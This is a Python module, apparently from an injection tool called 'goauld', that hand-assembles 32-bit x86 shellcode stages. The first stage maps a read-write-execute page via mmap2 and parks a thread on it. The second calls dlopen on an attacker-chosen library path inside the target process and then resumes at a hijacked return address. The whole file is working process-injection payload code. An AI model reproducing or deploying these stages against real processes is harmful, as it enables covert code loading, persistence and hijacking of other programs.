"""Payloads for 32-bit x86 targets, assembled to machine code."""

from __future__ import annotations

import logging
import struct

from goauld.errors import ShellcodeError

log = logging.getLogger(__name__)

RTLD_NOW = 0x2
_NOP = 0x90

_EAX, _ECX, _EDX, _EBX, _ESP, _EBP, _ESI, _EDI = range(8)


def _imm32(value: int) -> bytes:
    if not -(1 << 31) <= value < 1 << 32:
        raise ShellcodeError(f"value 0x{value:x} does not fit in 32 bits")
    return (value & 0xFFFFFFFF).to_bytes(4, "little")


def _qword(value: int) -> bytes:
    if not -(1 << 63) <= value < 1 << 64:
        raise ShellcodeError(f"value 0x{value:x} does not fit in 64 bits")
    return (value & ((1 << 64) - 1)).to_bytes(8, "little")


def _mov_r32(reg: int, value: int) -> bytes:
    return bytes([0xB8 + reg]) + _imm32(value)


class _Assembler:
    def __init__(self) -> None:
        self._code = bytearray()
        self._labels: dict[str, int] = {}
        self._fixups: list[tuple[int, str, bool]] = []

    def label(self, name: str) -> None:
        self._labels[name] = len(self._code)

    def emit(self, *chunks: bytes) -> None:
        for chunk in chunks:
            self._code += chunk

    def rel32(self, opcode: bytes, label: str) -> None:
        self._code += opcode
        self._fixups.append((len(self._code), label, True))
        self._code += bytes(4)

    def abs32(self, opcode: bytes, label: str) -> None:
        self._code += opcode
        self._fixups.append((len(self._code), label, False))
        self._code += bytes(4)

    def align(self, alignment: int) -> None:
        self._code += bytes([_NOP]) * (-len(self._code) % alignment)

    def finalize(self) -> bytes:
        for pos, label, relative in self._fixups:
            target = self._labels[label]
            value = target - (pos + 4) if relative else target
            struct.pack_into("<i", self._code, pos, value)
        return bytes(self._code)


def first_shellcode(var_addr: int, alloc_len: int) -> bytes:
    """Spin-locked stage that maps an RWX page, parks on it and publishes its address."""
    log.debug("Creating first_shellcode x86...")
    asm = _Assembler()
    asm.label("start")
    asm.emit(b"\x53", _mov_r32(_EBX, var_addr))
    asm.emit(b"\xf0\x66\x0f\xba\x2b\x00")  # lock bts word [ebx], 0
    asm.rel32(b"\x0f\x82", "start")
    asm.emit(b"\x5b", b"\x60")  # pop ebx; pushad

    # mmap2(NULL, alloc_len, RWX, MAP_PRIVATE | MAP_ANON, -1, 0)
    asm.emit(
        _mov_r32(_EBX, 0),
        _mov_r32(_ECX, alloc_len),
        _mov_r32(_EDX, 0x7),
        _mov_r32(_ESI, 0x22),
        _mov_r32(_EDI, -1),
        _mov_r32(_EBP, 0),
        _mov_r32(_EAX, 0xC0),
        b"\xcd\x80",
    )

    asm.emit(
        b"\x0c\x01",  # or al, 1
        _mov_r32(_EBX, var_addr),
        b"\x89\x03",  # mov [ebx], eax
        b"\x30\xc0",  # xor al, al
        b"\xc7\x00" + _imm32(0xFEEB),  # mov dword [eax], jmp $
        b"\xff\xe0",  # jmp eax
    )

    asm.align(4)
    asm.emit(_qword(var_addr))
    asm.align(4)
    asm.emit(_qword(alloc_len))
    return asm.finalize()


def raw_dlopen_shellcode(
    dlopen_addr: int, dlopen_path: str | bytes, origin_hijack_addr: int
) -> bytes:
    """Stage that calls ``dlopen(path, RTLD_NOW)``, restores registers and resumes."""
    log.debug("Creating raw_dlopen_shellcode x86 0x%x ...", origin_hijack_addr)
    path = dlopen_path.encode() if isinstance(dlopen_path, str) else bytes(dlopen_path)
    asm = _Assembler()
    asm.emit(b"\xe8" + _imm32(0), b"\x5b")  # call next; pop ebx
    asm.abs32(b"\x8d\x05", "dlopen_path")  # lea eax, [dlopen_path]
    asm.emit(
        b"\x01\xc3",  # add ebx, eax
        b"\x83\xc3\xfb",  # add ebx, -5
        _mov_r32(_EAX, dlopen_addr),
        b"\x55",  # push ebp
        b"\x89\xe5",  # mov ebp, esp
        b"\x68" + _imm32(RTLD_NOW),
        b"\x53",  # push ebx
        b"\xff\xd0",  # call eax
        b"\x89\xec",  # mov esp, ebp
        b"\x5d",  # pop ebp
        b"\x61",  # popad
        b"\x68" + _imm32(origin_hijack_addr),
        b"\xc3",
    )

    asm.align(4)
    asm.emit(_qword(RTLD_NOW))
    asm.label("dlopen_path")
    asm.emit(path + b"\0")
    asm.align(4)
    asm.emit(_qword(dlopen_addr))
    asm.align(4)
    asm.emit(_qword(origin_hijack_addr))
    return asm.finalize()